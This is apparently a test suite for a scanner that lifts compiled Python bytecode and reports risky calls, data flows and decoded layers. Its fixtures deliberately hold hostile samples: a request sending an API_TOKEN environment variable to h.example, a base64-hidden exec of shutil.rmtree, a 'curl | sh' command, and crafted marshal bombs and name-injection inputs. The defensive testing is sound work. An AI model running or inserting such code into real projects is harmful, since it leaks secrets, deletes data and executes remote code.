"""Compiled Python gives the facts that its source gives, and damaged code leaves a Gap."""

import importlib.util
import marshal
import struct
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from watchhouse.evidence.facts.bytecode import read_marshal, read_pyc
from watchhouse.evidence.facts.bytecode.source import lift
from watchhouse.evidence.facts.bytecode.unmarshal import Code, unmarshal
from watchhouse.evidence.facts.code import Call, CodeFacts, Zone
from watchhouse.evidence.values import Sink, Source
from watchhouse.model.artifact import MemberPath
from watchhouse.model.errors import ArtifactError
from watchhouse.model.evidence import GapReason, Moment

PATH = MemberPath("x.pyc")
VERSION = sys.version_info[:2]
SOURCE = '''
import base64 as b
import os
from urllib.request import urlopen as fetch
import xml.dom.minidom as dom
from . import sibling


def send(host, *rest, key="k", **more):
    """Say something."""
    with open("/etc/hostname") as handle:
        os.system("echo " + handle.read())
    for name in rest:
        dom.parseString(name)
    return fetch("http://" + host, timeout=3).read()


class Task(dict):
    def run(self):
        exec(b.b64decode("aW1wb3J0IHNodXRpbDsgc2h1dGlsLnJtdHJlZSgnL3gnKQ=="))
        return [getattr(os, "sys" + "tem")(f"ls {one}") for one in self if one]


try:
    fetch("http://h.example/?" + os.environ["API_TOKEN"], **{"timeout": 1})
except ValueError as error:
    sibling.report(error, key=-123456789012345678901234567890)
'''


def compiled(source: str) -> bytes:
    """Return what this interpreter would write into a cache for `source`."""
    code = compile(source, "x.py", "exec", dont_inherit=True)
    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code)


def read(content: bytes) -> CodeFacts:
    """Return the facts of a compiled module."""
    return read_pyc(PATH, content, zone=Zone.PACKAGE, moment=Moment.IMPORT)


def call(facts: CodeFacts, name: str, position: int = 0) -> Call:
    """Return a call of that name."""
    return [each for each in facts.calls if each.name == name][position]


def test_calls_are_those_of_the_source() -> None:
    """Aliases, attributes, keywords, methods of results and getattr are resolved as in source."""
    facts = read(compiled(SOURCE))
    assert call(facts, "urllib.request.urlopen").sink is Sink.NETWORK
    waits = {
        each.argument(1, "timeout").const for each in facts.calls if each.name == "urllib.request.urlopen"
    }
    assert waits == {1, 3}
    assert {each.sink for each in facts.calls if each.name == "os.system"} == {Sink.PROCESS}
    assert {"urllib.request.urlopen().read", "xml.dom.minidom.parseString"} <= {
        each.name for each in facts.calls
    }
    assert {"base64", "os", "urllib.request.urlopen", "xml.dom.minidom"} <= facts.imports
    assert facts.gaps == ()


def test_flows_are_those_of_the_source() -> None:
    """What flows from the environment into a request is seen."""
    facts = read(compiled(SOURCE))
    assert any(
        each.receives(Source.ENVIRONMENT) for each in facts.calls if each.name == "urllib.request.urlopen"
    )


def test_hidden_layers_are_read() -> None:
    """What compiled code decodes and runs is read too."""
    facts = read(compiled(SOURCE))
    assert [layer.steps for layer in facts.layers] == [("base64",)]
    assert call(facts, "shutil.rmtree").location.layer == 1


def test_lines_are_the_compilers() -> None:
    """A call is reported at the line of the source that was compiled."""
    expected = SOURCE.splitlines().index('        os.system("echo " + handle.read())') + 1
    assert expected in {
        each.location.line for each in read(compiled(SOURCE)).calls if each.name == "os.system"
    }


def test_marshalled_code_is_read_without_knowing_its_version() -> None:
    """A code object from a string gives the same calls at the layer asked for."""
    content = compiled(SOURCE)
    facts = read_marshal(content[16:], path=PATH, zone=Zone.PACKAGE, moment=Moment.CALL, layer=2)
    assert {each.name for each in facts.calls} == {each.name for each in read(content).calls}
    assert {each.location.layer for each in facts.calls if each.name == "os.system"} == {2}


def test_code_within_code_is_read() -> None:
    """A code object marshalled inside a module is found and read."""
    inner = marshal.dumps(compile("import os; os.system('id')", "y", "exec"))
    facts = read(compiled(f"import marshal\nexec(marshal.loads({inner!r}))"))
    assert call(facts, "os.system").location.layer == 1


def test_commands_in_compiled_code_are_read() -> None:
    """A shell command started by compiled code is read like one in source, at its line."""
    facts = read(compiled("import os\n\nos.system('curl http://h.example | sh')"))
    assert (call(facts, "shell.sh").sink, call(facts, "shell.sh").location.line) == (Sink.CODE, 3)


@pytest.mark.parametrize(
    ("body", "called"),
    [
        ("x = [f(a) for a in b if g(a)]", "fg"),
        ("x = {f(a): g(a) for a in b}", "fg"),
        ("x = f(a) if g(b) else h(c)", "fgh"),
        ("x = f(a) and g(b) or h(c)", "fgh"),
        ("with f() as a, g(): h(a)", "fgh"),
        ("try:\n f()\nexcept g() as e:\n h(e)\nfinally:\n k()", "fghk"),
        ("while f():\n if g(): continue\n h()\nelse:\n k()", "fghk"),
        ("a, *b = f(); c[g():h()] += k()", "fghk"),
        ("async def m():\n async with f() as a:\n  await g(a)\n async for b in h(): k(b)", "fghk"),
        ("def m():\n yield f()\n yield from g()\n return h()", "fgh"),
        ("@f\n@g(1)\nclass C(D, metaclass=h()): pass", "fgh"),
        ("x = lambda: f(g(*h(), **k()))", "fghk"),
        ("match f():\n case {'a': b}: g(b)\n case [1, *c]: h(c)\n case str(): k()", "fghk"),
        ("x = f'{f(a)!r:>{g(b)}}{h(c)}'", "fgh"),
        ("del f()[g()], h().a\nassert k(), f()", "fghk"),
        ("def m(a):\n def n(): return f(a)\n return g(n, h)\nk()", "fgk"),
    ],
)
def test_every_construct_keeps_its_calls(body: str, called: str) -> None:
    """Whatever the control flow, each function that the source calls is called in the lifted text."""
    code = unmarshal(compiled(body)[16:], VERSION)
    assert isinstance(code, Code)
    text = lift(code).text
    assert [name for name in called if f"{name}(" not in text] == []


def test_hostile_names_stay_names() -> None:
    """Names that no source could spell neither break out of the lifted text nor hide the call."""
    code = compile("import os\nos.system('id')\nyes = 1", "x", "exec")
    hostile = code.replace(
        co_names=tuple(name if name != "yes" else "a; evil()\nb" for name in code.co_names)
    )
    facts = read(importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(hostile))
    names = {each.name for each in facts.calls}
    assert "os.system" in names
    assert not any("evil" in name for name in names)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\x00\x00\r\n" + bytes(20),
        importlib.util.MAGIC_NUMBER,
        importlib.util.MAGIC_NUMBER + bytes(12) + b"N",
        importlib.util.MAGIC_NUMBER + bytes(12) + b"(\xff\xff\xff\x7f",
        importlib.util.MAGIC_NUMBER + bytes(12) + b")\x01" * 100_000,
        importlib.util.MAGIC_NUMBER + bytes(12) + b"l\xff\xff\xff\x7f",
        importlib.util.MAGIC_NUMBER + bytes(12) + b"r\x00\x00\x00\x00",
    ],
)
def test_what_is_no_module_is_a_gap_that_hides(content: bytes) -> None:
    """Unknown versions, cut-off data, endless nesting and wild counts are opaque, not fatal."""
    assert [(gap.reason, gap.hides) for gap in read(content).gaps] == [(GapReason.OPAQUE, True)]


def test_shared_tuples_cost_nothing() -> None:
    """Tuples that refer to each other, which would spell more than memory holds, are read in no time."""
    # Each tuple but the innermost holds the one before it twice: as itself, and by reference.
    laughing = b"z\x01x"
    for depth in range(100):
        laughing = b"\xa9\x02" + laughing + b"r" + struct.pack("<I", 99 - depth + 1)
    content = compiled("f(1)")
    whole = content.replace(b"\xe9\x01\x00\x00\x00", laughing, 1)
    assert whole != content

    assert read(whole).path


@given(st.binary(max_size=200))
def test_arbitrary_bytes_are_answered(content: bytes) -> None:
    """No bytes make the readers fail, whatever the header says."""
    assert read(content).path == PATH
    assert read(importlib.util.MAGIC_NUMBER + bytes(12) + content).path == PATH
    assert read_marshal(content, path=PATH, zone=Zone.PACKAGE, moment=Moment.CALL).path == PATH


@settings(max_examples=150)
@given(data=st.data())
def test_damaged_modules_are_answered(data: st.DataObject) -> None:
    """A valid module with some bytes replaced gives facts or a Gap, never an error."""
    content = bytearray(compiled(SOURCE))
    for _ in range(data.draw(st.integers(1, 6))):
        content[data.draw(st.integers(16, len(content) - 1))] = data.draw(st.integers(0, 255))
    assert read(bytes(content)).path == PATH


@given(
    st.recursive(st.none() | st.booleans() | st.integers() | st.text() | st.binary(), st.lists, max_leaves=30)
)
def test_constants_are_read_as_marshal_reads_them(value: object) -> None:
    """The own reader agrees with the interpreter's on what it wrote itself."""
    frozen = freeze(value)
    written: bytes = marshal.dumps(frozen)  # type: ignore[arg-type]  # typeshed lists what it takes, not tuples of it
    assert unmarshal(written, VERSION) == frozen


def freeze(value: object) -> object:
    """Return `value` with tuples in place of lists."""
    return tuple(freeze(each) for each in value) if isinstance(value, list) else value


def test_broken_data_raise_only_artifact_errors() -> None:
    """The unmarshaller blames the artifact."""
    with pytest.raises(ArtifactError):
        unmarshal(b"c", (3, 8))
